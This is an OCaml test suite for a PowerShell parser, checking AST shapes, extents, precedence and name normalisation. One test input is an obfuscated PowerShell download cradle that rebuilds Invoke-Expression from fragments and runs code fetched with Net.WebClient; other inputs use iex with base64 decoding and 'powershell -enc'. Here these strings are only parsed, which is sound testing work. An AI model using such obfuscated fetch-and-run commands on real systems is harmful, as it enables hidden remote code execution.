(* Tests for the PowerShell parser: node shapes, extents, precedence. *)

module A = Psast.Ast

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let parse src = Psparse.Parser.parse_exn src

let statements src =
  match (parse src).A.node with
  | A.Script_block sb -> sb.A.sb_statements
  | _ -> Alcotest.fail "expected script block"

let only_statement src =
  match statements src with
  | [ s ] -> s
  | l -> Alcotest.fail (Printf.sprintf "expected 1 statement, got %d" (List.length l))

(* find the first node of a given kind (post-order) *)
let find_kind src kind =
  let found = ref None in
  A.iter_post_order
    (fun n -> if !found = None && A.kind_name n = kind then found := Some n)
    (parse src);
  match !found with
  | Some n -> n
  | None -> Alcotest.fail ("no node of kind " ^ kind)

let kind_exists src kind =
  let found = ref false in
  A.iter_post_order (fun n -> if A.kind_name n = kind then found := true) (parse src);
  !found

let test_pipeline_shapes () =
  (match (only_statement "a | b | c").A.node with
  | A.Pipeline elems -> check_i "3 elements" 3 (List.length elems)
  | _ -> Alcotest.fail "expected pipeline");
  check_b "command ast" true (kind_exists "write-host x" "CommandAst");
  check_b "command expression" true (kind_exists "'lit'" "CommandExpressionAst")

let test_assignment () =
  match (only_statement "$x = 1 + 2").A.node with
  | A.Assignment (A.Assign, lhs, _) ->
      check_s "lhs kind" "VariableExpressionAst" (A.kind_name lhs)
  | _ -> Alcotest.fail "expected assignment"

let test_compound_assignment () =
  match (only_statement "$x += 5").A.node with
  | A.Assignment (A.Plus_assign, _, _) -> ()
  | _ -> Alcotest.fail "expected +="

let test_precedence_add_mul () =
  (* 1 + 2 * 3 parses as 1 + (2 * 3) *)
  let src = "1 + 2 * 3" in
  match (find_kind src "BinaryExpressionAst").A.node with
  | A.Binary_expr (A.Mul, _, _, _) -> ()  (* innermost (post-order first) is * *)
  | _ -> Alcotest.fail "expected * innermost"

let test_precedence_format_vs_comma () =
  (* "{0}{1}" -f 'a','b': comma binds tighter, so -f's rhs is an array *)
  let src = {|"{0}{1}" -f 'a','b'|} in
  match (find_kind src "ArrayLiteralAst").A.node with
  | A.Array_literal elems -> check_i "two parts" 2 (List.length elems)
  | _ -> Alcotest.fail "expected array literal"

let test_precedence_comparison_low () =
  (* $a + 1 -eq 2 parses as ($a + 1) -eq 2 *)
  let src = "$a + 1 -eq 2" in
  let top = only_statement src in
  match top.A.node with
  | A.Pipeline [ { A.node = A.Command_expression e; _ } ] -> (
      match e.A.node with
      | A.Binary_expr (A.Eq, _, lhs, _) ->
          check_s "lhs is add" "BinaryExpressionAst" (A.kind_name lhs)
      | _ -> Alcotest.fail "expected -eq at top")
  | _ -> Alcotest.fail "expected expression statement"

let test_unary () =
  check_b "negate" true (kind_exists "-5 + 1" "UnaryExpressionAst");
  check_b "not" true (kind_exists "!$x" "UnaryExpressionAst");
  check_b "join unary" true (kind_exists "-join $a" "UnaryExpressionAst")

(* PowerShell's reading of numeric literals: [d] is a hex digit in a hex
   literal, not the decimal suffix, and a hex literal that fits in 32 bits
   without the long suffix is an Int32 *)
let test_hex_literals () =
  let int_of src =
    match (find_kind src "ConstantExpressionAst").A.node with
    | A.Number_const (A.Int_lit n) -> n
    | _ -> Alcotest.fail (src ^ ": expected an integer constant")
  in
  List.iter
    (fun (src, expected) -> check_i src expected (int_of src))
    [ ("0xAD", 173); ("0x1d", 29); ("0xdd", 221); ("0xFFFFFFFF", -1);
      ("0x80000000", -2147483648); ("0x7FFFFFFF", 2147483647);
      ("0xFFFFFFFFL", 4294967295); ("0x100000000", 4294967296);
      ("0xffl", 255); ("0x10kb", 16384); ("1d", 1); ("12d", 12) ]

let test_method_call_args_commas () =
  (* commas inside method args separate arguments, not arrays *)
  match (find_kind "$s.Replace('a','b')" "InvokeMemberExpressionAst").A.node with
  | A.Invoke_member (_, A.Member_name { A.written = m; _ }, args, false) ->
      check_s "member" "Replace" m;
      check_i "two args" 2 (List.length args)
  | _ -> Alcotest.fail "expected instance invoke"

let test_static_member () =
  match (find_kind "[Convert]::FromBase64String('x')" "InvokeMemberExpressionAst").A.node with
  | A.Invoke_member (obj, A.Member_name { A.written = m; _ }, _, true) ->
      check_s "member" "FromBase64String" m;
      check_s "obj is type" "TypeExpressionAst" (A.kind_name obj)
  | _ -> Alcotest.fail "expected static invoke"

let test_convert_vs_type_literal () =
  check_b "cast" true (kind_exists "[char]104" "ConvertExpressionAst");
  check_b "chained cast" true (kind_exists "[string][char]39" "ConvertExpressionAst");
  (* type literal before :: stays a literal *)
  match (find_kind "[Math]::Abs(1)" "TypeExpressionAst").A.node with
  | A.Type_literal { A.written = t; _ } -> check_s "name" "Math" t
  | _ -> Alcotest.fail "expected type literal"

let test_index_expr () =
  match (find_kind "$pshome[4]" "IndexExpressionAst").A.node with
  | A.Index_expr (_, idx) -> check_s "idx" "ConstantExpressionAst" (A.kind_name idx)
  | _ -> Alcotest.fail "expected index"

let test_expandable_string_parts () =
  match (find_kind {|"val: $x and $(1+2)"|} "ExpandableStringExpressionAst").A.node with
  | A.Expandable_string (_, parts) ->
      let vars =
        List.filter (function A.Part_variable _ -> true | _ -> false) parts
      in
      let subs = List.filter (function A.Part_subexpr _ -> true | _ -> false) parts in
      check_i "one variable" 1 (List.length vars);
      check_i "one subexpr" 1 (List.length subs)
  | _ -> Alcotest.fail "expected expandable string"

let test_double_quoted_no_expansion_is_constant () =
  match (only_statement {|"plain"|}).A.node with
  | A.Pipeline [ { A.node = A.Command_expression e; _ } ] ->
      check_s "constant" "StringConstantExpressionAst" (A.kind_name e)
  | _ -> Alcotest.fail "expected constant"

let test_control_flow () =
  check_b "if" true (kind_exists "if (1) { 2 } else { 3 }" "IfStatementAst");
  check_b "while" true (kind_exists "while ($x) { $x-- }" "WhileStatementAst");
  check_b "dowhile" true (kind_exists "do { 1 } while ($x)" "DoWhileStatementAst");
  check_b "dountil" true (kind_exists "do { 1 } until ($x)" "DoUntilStatementAst");
  check_b "for" true (kind_exists "for ($i=0; $i -lt 3; $i++) { $i }" "ForStatementAst");
  check_b "foreach" true (kind_exists "foreach ($x in 1..3) { $x }" "ForEachStatementAst");
  check_b "switch" true (kind_exists "switch ($x) { 'a' { 1 } default { 2 } }" "SwitchStatementAst");
  check_b "try" true (kind_exists "try { 1 } catch { 2 } finally { 3 }" "TryStatementAst");
  check_b "trap" true (kind_exists "trap { continue }; 1" "TrapStatementAst")

let var_names = List.map (fun (v : A.variable) -> v.A.var_name)

let test_function_def () =
  match (only_statement "function f($a, $b) { $a }").A.node with
  | A.Function_def ({ A.written = name; _ }, params, _) ->
      check_s "name" "f" name;
      Alcotest.(check (list string)) "params" [ "a"; "b" ] (var_names params)
  | _ -> Alcotest.fail "expected function"

let test_param_block () =
  (* a leading param(...) becomes the script block's parameter list *)
  match (parse "param($x, $y)\n$x").A.node with
  | A.Script_block sb ->
      Alcotest.(check (list string)) "names" [ "x"; "y" ] (var_names sb.A.sb_params);
      check_i "one statement" 1 (List.length sb.A.sb_statements)
  | _ -> Alcotest.fail "expected script block"

let test_script_block_params () =
  match (find_kind "{ param($p) $p * 2 }" "ScriptBlockExpressionAst").A.node with
  | A.Script_block_expr sb ->
      Alcotest.(check (list string)) "sb params" [ "p" ] (var_names sb.A.sb_params)
  | _ -> Alcotest.fail "expected script block"

let test_hash_literal () =
  match (find_kind "@{a = 1; b = 'two'}" "HashtableAst").A.node with
  | A.Hash_literal pairs -> check_i "pairs" 2 (List.length pairs)
  | _ -> Alcotest.fail "expected hashtable"

let test_command_invocation_operators () =
  (match (find_kind "& 'iex' 1" "CommandAst").A.node with
  | A.Command { A.cmd_invocation = A.Inv_call; _ } -> ()
  | _ -> Alcotest.fail "expected & invocation");
  match (find_kind ". ('ie'+'x') 1" "CommandAst").A.node with
  | A.Command { A.cmd_invocation = A.Inv_dot; cmd_elements; _ } ->
      check_i "elements" 2 (List.length cmd_elements)
  | _ -> Alcotest.fail "expected . invocation"

let test_command_parameters () =
  match (find_kind "powershell -enc abc -NoProfile" "CommandAst").A.node with
  | A.Command cmd ->
      let params =
        List.filter_map
          (function A.Elem_parameter ({ A.written = p; _ }, _) -> Some p | _ -> None)
          cmd.A.cmd_elements
      in
      check_i "two params" 2 (List.length params)
  | _ -> Alcotest.fail "expected command"

let test_extents_in_place () =
  let src = "$a = ('x'+'y'); write-host $a" in
  A.iter_post_order
    (fun n ->
      let text = A.text src n in
      check_b "extent slices source" true (String.length text > 0 || A.children n = []))
    (parse src)

let test_newline_handling () =
  (* newline ends a statement *)
  check_i "two statements" 2 (List.length (statements "1\n2"));
  (* newline after operator continues *)
  check_i "continuation after op" 1 (List.length (statements "1 +\n2"));
  (* newline after pipe continues *)
  check_i "continuation after pipe" 1 (List.length (statements "1 |\nmeasure-object"))

let test_parse_errors () =
  List.iter
    (fun src ->
      check_b ("rejects " ^ src) true
        (not (Psparse.Parser.is_valid_syntax src)))
    [ "if (1) 2"; "function"; "$x ="; "foreach ($x in) {}"; ")"; "{ 1" ]

(* an unterminated $( inside an expandable string must surface as a
   structured parse error carrying the real source offset — not an
   uncontained Failure from the subexpression scanner *)
let test_unterminated_subexpr_position () =
  let src = "Write-Output \"abc $(oops\"" in
  match Psparse.Parser.parse src with
  | Ok _ -> Alcotest.fail "unterminated $( parsed"
  | Error e ->
      let dollar = String.index src '$' in
      check_b "position at or after the $(" true (e.Psparse.Parser.position >= dollar);
      check_b "position inside the source" true
        (e.Psparse.Parser.position <= String.length src)

let test_fragment_offsets () =
  let src = "xx$(1+2)yy" in
  match Psparse.Parser.parse_fragment ~src ~offset:4 "1+2" with
  | Ok ast ->
      let binary = ref None in
      A.iter_post_order
        (fun n -> match n.A.node with A.Binary_expr _ -> binary := Some n | _ -> ())
        ast;
      let b = Option.get !binary in
      check_s "extent indexes outer source" "1+2" (A.text src b)
  | Error _ -> Alcotest.fail "fragment parse failed"

let test_paper_case_parses () =
  let case =
    "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
     $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
     .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"
  in
  check_b "valid" true (Psparse.Parser.is_valid_syntax case)

let prop_node_extents_nested =
  (* every child's extent lies within its parent's *)
  QCheck.Test.make ~name:"parser: child extents within parent" ~count:50
    (QCheck.make
       (QCheck.Gen.oneofl
          [ "('a'+'b').Replace('a','c')"; "$x = 1; if ($x) { $x * 2 }";
            "foreach ($i in 1..3) { write-host $i }";
            "iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('eA==')))" ]))
    (fun src ->
      let ast = parse src in
      let ok = ref true in
      let rec walk node =
        List.iter
          (fun child ->
            if not (Pscommon.Extent.contains node.A.extent child.A.extent) then
              ok := false;
            walk child)
          (A.children node)
      in
      walk ast;
      !ok)

let test_precedence_matrix () =
  (* spot checks across the documented precedence chain, verified through
     evaluation results *)
  let eval src =
    match Pseval.Interp.invoke_piece (Pseval.Env.create ()) src with
    | Ok v -> Psvalue.Value.to_string v
    | Error m -> "ERR " ^ m
  in
  List.iter
    (fun (src, expected) -> check_s src expected (eval src))
    [ ("1 + 2 * 3", "7");                       (* * over + *)
      ("'{0}' -f 'a' + 'b'", "ab");             (* -f over + *)
      ("1..2 + 2", "1 2 2");                    (* range over + : append  *)
      ("1,2 + 3", "1 2 3");                     (* comma over + : array append *)
      ("1 + 2 -eq 3", "True");                  (* + over -eq *)
      ("$true -or $false -and $false", "False"); (* logicals share one level *)
      ("-join ('a','b') + 'c'", "abc")          (* unary join binds its operand *) ]

let test_here_string_double_interpolates () =
  let src = "$x = 5\n@\"\nvalue: $x\n\"@" in
  match Pseval.Interp.invoke_piece (Pseval.Env.create ()) src with
  | Ok v -> check_s "here interpolation" "value: 5" (Psvalue.Value.to_string v)
  | Error m -> Alcotest.fail m

let test_nested_subexpr_in_string () =
  match (find_kind {|"x$(1 + $(2))y"|} "ExpandableStringExpressionAst").A.node with
  | A.Expandable_string (_, parts) ->
      check_i "nested subexpr parses" 3 (List.length parts)
  | _ -> Alcotest.fail "expected expandable"

let test_comment_positions () =
  check_b "after statement" true (Psparse.Parser.is_valid_syntax "1 # c");
  check_b "block mid-expression" true (Psparse.Parser.is_valid_syntax "1 + <# c #> 2");
  check_b "full-line" true (Psparse.Parser.is_valid_syntax "# only a comment")

let test_empty_and_whitespace_scripts () =
  check_i "empty" 0 (List.length (statements ""));
  check_i "whitespace" 0 (List.length (statements "  \n\t  \n"));
  check_i "separators only" 0 (List.length (statements ";;\n;"))

let test_splatting_parses () =
  check_b "splat variable" true (Psparse.Parser.is_valid_syntax "cmd @params")

(* the lookup keys the parser stores next to each name (Psparse.Names):
   the evaluator dispatches on them, the printer reads the text *)
let test_name_keys () =
  let type_of src =
    match (find_kind src "TypeExpressionAst").A.node with
    | A.Type_literal ty -> ty
    | _ -> Alcotest.fail "expected type literal"
  in
  let type_key src = (type_of src).A.key in
  check_s "spaced System.Char" "char" (type_key "[System.Char ]");
  (* the lexer starts a type name only right after '[' *)
  check_s "padded System.Char" "char" (Psparse.Names.type_key " System.Char ");
  check_s "spaced array type" "char[]" (type_key "[char []]");
  check_s "upper-case namespace" "text.encoding" (type_key "[SYSTEM.Text.Encoding]::UTF8");
  check_s "text as written" "SYSTEM.Text.Encoding"
    (type_of "[SYSTEM.Text.Encoding]::UTF8").A.written;
  (match (find_kind "[System.Char ]104" "ConvertExpressionAst").A.node with
  | A.Convert_expr (ty, _) -> check_s "cast key" "char" ty.A.key
  | _ -> Alcotest.fail "expected cast");
  let member src =
    match (find_kind src "InvokeMemberExpressionAst").A.node with
    | A.Invoke_member (_, A.Member_name m, _, _) -> m
    | _ -> Alcotest.fail "expected a named member"
  in
  check_s "ToInt32" "toint32" (member "[Convert]::ToInt32('1', 2)").A.key;
  check_s "toint32" "toint32" (member "[convert]::toint32('1', 2)").A.key;
  check_s "member as written" "ToInt32" (member "[Convert]::ToInt32('1', 2)").A.written;
  let variable src =
    match (find_kind src "VariableExpressionAst").A.node with
    | A.Variable_expr v -> v
    | _ -> Alcotest.fail "expected variable"
  in
  let env_path = variable "$Env:PATH" in
  check_s "env text" "Env:PATH" env_path.A.var_name;
  check_b "env drive" true (env_path.A.var_key.A.drive = A.Env_drive);
  check_s "env key" "path" env_path.A.var_key.A.scope_key;
  check_s "env folded" "env:path" env_path.A.var_key.A.folded;
  let global = variable "${global:X}" in
  check_b "global drive" true (global.A.var_key.A.drive = A.Global_drive);
  check_s "global key" "x" global.A.var_key.A.scope_key;
  check_s "global folded" "global:x" global.A.var_key.A.folded;
  let splat = variable "f @Splat" in
  check_b "splat" true splat.A.var_splat;
  check_b "no drive" true (splat.A.var_key.A.drive = A.No_drive);
  check_s "splat key" "splat" splat.A.var_key.A.scope_key;
  let command src =
    match (only_statement src).A.node with
    | A.Pipeline [ { A.node = A.Command cmd; _ } ] -> cmd.A.cmd_key
    | _ -> Alcotest.fail "expected one command"
  in
  (match command "% { $_ }" with
  | Some k ->
      check_s "% as written" "%" k.A.cmd_name;
      check_s "% function key" "%" k.A.cmd_folded;
      check_s "% builtin" "foreach-object" k.A.cmd_builtin
  | None -> Alcotest.fail "% has no key");
  (match command "IEX $x" with
  | Some k ->
      check_s "iex function key" "iex" k.A.cmd_folded;
      check_s "iex builtin" "invoke-expression" k.A.cmd_builtin
  | None -> Alcotest.fail "iex has no key");
  check_b "a computed name has no key" true (command "& ('ie'+'x') $x" = None);
  (match (find_kind "powershell -EnC: abc" "CommandAst").A.node with
  | A.Command { A.cmd_elements = [ _; A.Elem_parameter (p, _) ]; _ } ->
      check_s "parameter key" "enc" p.A.key;
      check_s "parameter as written" "-EnC:" p.A.written
  | _ -> Alcotest.fail "expected a parameter");
  (* an already-normal name is its own key: no copy per name *)
  let normal = "char[]" in
  check_b "type key reuses" true (Psparse.Names.type_key normal == normal);
  let k = Psparse.Names.var_key "x" in
  check_b "variable key reuses" true (k.A.scope_key == k.A.folded)

let suite =
  [
    ("pipeline shapes", `Quick, test_pipeline_shapes);
    ("hex literals", `Quick, test_hex_literals);
    ("name keys", `Quick, test_name_keys);
    ("precedence matrix", `Quick, test_precedence_matrix);
    ("here-string interpolation", `Quick, test_here_string_double_interpolates);
    ("nested subexpr in string", `Quick, test_nested_subexpr_in_string);
    ("comment positions", `Quick, test_comment_positions);
    ("empty scripts", `Quick, test_empty_and_whitespace_scripts);
    ("splatting", `Quick, test_splatting_parses);
    ("assignment", `Quick, test_assignment);
    ("compound assignment", `Quick, test_compound_assignment);
    ("precedence add/mul", `Quick, test_precedence_add_mul);
    ("precedence format/comma", `Quick, test_precedence_format_vs_comma);
    ("precedence comparison low", `Quick, test_precedence_comparison_low);
    ("unary", `Quick, test_unary);
    ("method args commas", `Quick, test_method_call_args_commas);
    ("static member", `Quick, test_static_member);
    ("convert vs type literal", `Quick, test_convert_vs_type_literal);
    ("index expr", `Quick, test_index_expr);
    ("expandable string parts", `Quick, test_expandable_string_parts);
    ("double-quoted constant", `Quick, test_double_quoted_no_expansion_is_constant);
    ("control flow", `Quick, test_control_flow);
    ("function def", `Quick, test_function_def);
    ("param block", `Quick, test_param_block);
    ("script block params", `Quick, test_script_block_params);
    ("hash literal", `Quick, test_hash_literal);
    ("invocation operators", `Quick, test_command_invocation_operators);
    ("command parameters", `Quick, test_command_parameters);
    ("extents in place", `Quick, test_extents_in_place);
    ("newline handling", `Quick, test_newline_handling);
    ("parse errors", `Quick, test_parse_errors);
    ("unterminated subexpr position", `Quick, test_unterminated_subexpr_position);
    ("fragment offsets", `Quick, test_fragment_offsets);
    ("paper case parses", `Quick, test_paper_case_parses);
    QCheck_alcotest.to_alcotest prop_node_extents_nested;
  ]
